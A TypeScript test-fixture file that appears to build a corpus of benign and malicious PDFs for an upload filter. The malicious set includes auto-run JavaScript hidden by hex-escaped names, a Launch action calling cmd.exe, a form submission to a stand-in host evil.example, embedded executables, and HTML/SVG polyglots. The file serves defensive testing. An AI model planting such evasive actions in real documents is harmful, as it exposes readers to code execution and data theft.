import { PLANTED_SCRIPT, packedPdf, pdf } from '@forecourt/infra/testing/sample-files.ts'
import type { CorpusFile } from './corpus.ts'

const license = { purpose: 'license' as const }

const page = (text: string) => `<< /Length ${text.length} >>\nstream\n${text}\nendstream`

/** Documents as programs write them. */
export function documents(): CorpusFile[] {
  const sound: Readonly<Record<string, Buffer>> = {
    ...Object.fromEntries(
      ['1.0', '1.1', '1.2', '1.3', '1.4', '1.5', '1.6', '1.7', '2.0'].map((version) => [
        `a PDF ${version}`,
        pdf('', [], version),
      ]),
    ),
    'a PDF that opens at a page': pdf('/OpenAction [3 0 R /Fit]'),
    'a PDF with a language': pdf('/Lang (en-GB) /ViewerPreferences << /DisplayDocTitle true >>'),
    'a PDF with text': pdf('', [page('BT /F1 12 Tf (Licence) Tj ET')]),
    'a PDF with many pages of text': pdf(
      '',
      Array.from({ length: 200 }, (_, n) => page(`BT (${n}) Tj ET`)),
    ),
    'a PDF with packed objects': packedPdf('<< /Type /Outlines /Count 0 >>'),
    'a PDF with packed objects of 1 MB': packedPdf(`<< /A (${'x'.repeat(1_000_000)}) >>`),
    'a PDF with spaces behind its end': Buffer.concat([pdf(), Buffer.from('\n \n')]),
    'a PDF of 5 MB': pdf('', [page('x'.repeat(5_241_800))]),
  }
  return [
    ...Object.entries(sound).map(([name, bytes]) => ({ ...license, name, bytes, becomes: 'served' as const })),
    { name: 'a PDF as a picture of a vehicle', purpose: 'vehicle-image', bytes: pdf(), becomes: 'refused' },
  ]
}

/** Documents that do something, hide something or are something else as well. */
export function activeDocuments(): CorpusFile[] {
  const html = Buffer.from(`<!doctype html><html>${PLANTED_SCRIPT}</html>`)
  const script = '/S /JavaScript /JS (app.alert("planted"))'
  const refused: Readonly<Record<string, Buffer>> = {
    'a script when it opens': pdf(`/OpenAction << ${script} >>`),
    'a script when it closes': pdf(`/AA << /WC << ${script} >> >>`),
    'a script by name': pdf(`/Names << /JavaScript << /Names [(a) << ${script} >>] >> >>`),
    'a script spelt otherwise': pdf('/OpenAction << /S /J#61va#53cript /JS (planted) >>'),
    'a script spelt in full': pdf('/OpenAction << /S /#4a#61#76#61#53#63#72#69#70#74 /JS (planted) >>'),
    'a script in an object of its own': pdf('/OpenAction 4 0 R', [`<< ${script} >>`]),
    'a script in packed objects': packedPdf(`<< ${script} >>`),
    'a script spelt otherwise in packed objects': packedPdf('<< /S /JavaScr#69pt /JS (planted) >>'),
    'a program to start': pdf('/OpenAction << /S /Launch /F (cmd.exe) /P (/c planted) >>'),
    'a program to start, in packed objects': packedPdf('<< /S /Launch /F (cmd.exe) >>'),
    'a form that sends': pdf('/OpenAction << /S /SubmitForm /F (https://evil.example/planted) >>'),
    'data to be read in': pdf('/OpenAction << /S /ImportData /F (planted.fdf) >>'),
    'a file in it': pdf('/Names << /EmbeddedFiles << /Names [(planted.exe) 4 0 R] >> >>', ['<< /Type /Filespec >>']),
    'a stream that is a file': pdf('', ['<< /Type /EmbeddedFile /Length 7 >>\nstream\nplanted\nendstream']),
    'a form of XML': pdf('/AcroForm << /XFA [(planted) 4 0 R] >>', ['<< >>']),
    'a film': pdf('', ['<< /Type /Annot /Subtype /RichMedia >>']),
    'a password': pdf('/Encrypt << /Filter /Standard /V 4 /R 4 /Length 128 /P -44 >>'),
    'a password by reference': pdf('/X << /#45ncrypt 4 0 R >>', ['<< /Filter /Standard >>']),
    'a page in front': Buffer.concat([html, pdf()]),
    'a page behind': Buffer.concat([pdf(), html]),
    'a page in a text': pdf(`/X (${PLANTED_SCRIPT})`),
    'a page between': pdf('', [`<< /Length ${html.length} >>\nstream\n${html.toString('latin1')}\nendstream`]),
    'a drawing in a text': pdf('/X (<svg onload=planted>)'),
    'a picture in front': Buffer.concat([Buffer.from('\xff\xd8\xff\xe0', 'latin1'), pdf()]),
    'an archive in front': Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), pdf()]),
    'no end': pdf().subarray(0, -6),
    'half of it': pdf().subarray(0, 200),
    'its beginning only': Buffer.from('%PDF-1.7\n'),
    'an index elsewhere': Buffer.from(
      pdf()
        .toString('latin1')
        .replace(/startxref\n\d+/, 'startxref\n7'),
      'latin1',
    ),
    'an index far beyond': Buffer.from(
      pdf()
        .toString('latin1')
        .replace(/startxref\n\d+/, 'startxref\n9999999999'),
      'latin1',
    ),
    'a version of its own': pdf('', [], '9.9'),
    'packed objects of 200 MB': packedPdf(' '.repeat(200_000_000)),
    'packed objects twice packed': Buffer.from(
      packedPdf('<< >>').toString('latin1').replace('/Filter /FlateDecode', '/Filter [/FlateDecode /FlateDecode]'),
      'latin1',
    ),
    'packed objects that are none': Buffer.from(
      pdf('', ['<< /Type /ObjStm /Filter /FlateDecode /Length 7 >>\nstream\nplanted\nendstream']),
    ),
  }
  const harmless: Readonly<Record<string, Buffer>> = {
    'pages that contain each other': pdf('', ['<< /Type /Pages /Kids [4 0 R 4 0 R] /Count 2147483647 >>']),
    'arrays in arrays': pdf(`/X ${'['.repeat(100_000)}${']'.repeat(100_000)}`),
    'a hundred thousand streams of no length': pdf('', ['stream '.repeat(100_000)]),
  }
  return [
    ...Object.entries(refused).map(([what, bytes]) => ({
      ...license,
      name: `a PDF with ${what}`,
      bytes,
      becomes: 'refused' as const,
    })),
    ...Object.entries(harmless).map(([what, bytes]) => ({
      ...license,
      name: `a PDF with ${what}`,
      bytes,
      becomes: 'either' as const,
    })),
  ]
}
